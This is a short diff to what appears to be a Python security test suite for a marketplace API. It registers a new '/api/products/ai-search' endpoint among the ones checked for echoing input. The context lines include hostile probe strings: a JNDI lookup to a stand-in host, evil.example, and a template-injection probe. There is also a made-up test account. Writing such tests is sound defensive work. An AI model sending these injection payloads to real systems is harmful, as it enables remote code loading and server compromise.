@@ -31,7 +31,7 @@ EVIL = (
     "${jndi:ldap://evil.example/a}",
     "{{7*7}}",
 )
-SILENT = ("/api/chat", "/api/products/{product_id}/stock")
+SILENT = ("/api/products/ai-search", "/api/chat", "/api/products/{product_id}/stock")
 """Their answers don't repeat what was said."""
 PASSWORD = "kopi tubruk 7"  # noqa: S105  made up
 ACCOUNT = {"name": "Sari", "email": "sari@example.com", "password": PASSWORD}
@@ -102,6 +102,7 @@ def bodies(market: TestClient, key: Headers) -> dict[tuple[str, str], tuple[str,
         ("POST", "/api/auth/login"): ("/api/auth/login", {}, login),
         ("POST", "/api/auth/refresh"): ("/api/auth/refresh", {}, {}),
         ("POST", "/api/chat"): ("/api/chat", {}, {"message": "laptop"}),
+        ("POST", "/api/products/ai-search"): ("/api/products/ai-search", {}, {"query": "laptop"}),
     }
 
 
